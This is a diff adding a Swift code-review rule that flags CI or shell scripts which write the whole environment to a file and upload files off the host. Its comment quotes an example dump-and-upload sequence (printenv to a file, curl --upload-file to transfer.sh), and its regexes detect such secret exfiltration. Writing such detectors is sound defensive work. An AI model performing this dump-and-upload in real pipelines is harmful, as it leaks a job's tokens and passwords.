@@ -1,0 +1,43 @@
+import Manifest
+
+/// `ci.secrets-exfiltration` across a script: the whole environment written to a file (`printenv | sort >
+/// "$OUT/job-env.txt"`) and a file sent off the host by the same change (`curl --upload-file "$BUNDLE"
+/// https://transfer.sh/…`, `scp`, `aws s3 cp` to a bucket), however far apart. On a CI runner, or a machine that
+/// deploys, the environment holds the job's tokens and passwords; what the script bundles and uploads carries them.
+/// A dump filtered down to some names (`env | grep ^APP_`) or masked (`sed 's/=.*/=***/'`) is not the whole
+/// environment. ``CIRules`` reads a dump and a sender within one step of a pipeline file.
+struct EnvironmentDumpUploaded: FileCheck {
+    let kinds: Set<ReviewedFile.Kind> = [.shell, .ci]
+
+    func findings(in file: ChangedFile) -> [ReviewFinding] {
+        let added = file.visible.filter(\.isAdded)
+        guard let dump = added.first(where: { Self.mayDump($0.text) && Self.dumpToFile.matches($0.text) }),
+            let upload = added.first(where: { Self.mayUpload($0.text) && Self.upload.matches($0.text) })
+        else { return [] }
+        return [
+            file.finding(
+                "ci.secrets-exfiltration", .high, on: upload,
+                message: "the whole environment is written to a file (line \(dump.number)) and the change sends files "
+                    + "off the host here: the job's tokens and passwords go with them; collect only the variables "
+                    + "you need, masked", content: upload.text)
+        ]
+    }
+
+    private static func mayDump(_ text: Substring) -> Bool {
+        text.hasBytes(">") && ["env", "set", "export"].contains(where: text.hasBytes)
+    }
+
+    private static func mayUpload(_ text: Substring) -> Bool {
+        ["curl", "scp", "rsync", "s3", "gsutil", "azcopy", "rclone"].contains(where: text.hasBytes)
+    }
+
+    /// The environment, unfiltered (sorted, encoded or compressed at most), written to a file.
+    private static let dumpToFile = LinePattern(
+        #"(?:^|[\s;&(])(?:env|printenv|export\s+-p|set)\s*(?:\|\s*(?:sort|base64|gzip)\b[^|>\n]*)*>\s*[^&\s]"#)
+    /// A file sent off the host: curl's upload and form-file options, `scp`/`rsync` to a remote, cloud storage copies.
+    private static let upload = LinePattern(
+        #"(?i)\bcurl\b[^\n]*\s(?:--upload-file|-T|(?:-F|--form)\s+["']?\w+=@|"#
+            + #"--data(?:-binary|-raw)?\s+["']?@|-d\s+["']?@)|\b(?:scp|rsync)\b[^\n]*\s[\w.@-]+:\S|"#
+            + #"\baws\s+s3\s+(?:cp|sync)\b[^\n]*\ss3://|\bgsutil\s+cp\b[^\n]*gs://|"#
+            + #"\bazcopy\s+copy\b|\brclone\s+(?:copy|sync)\b"#)
+}
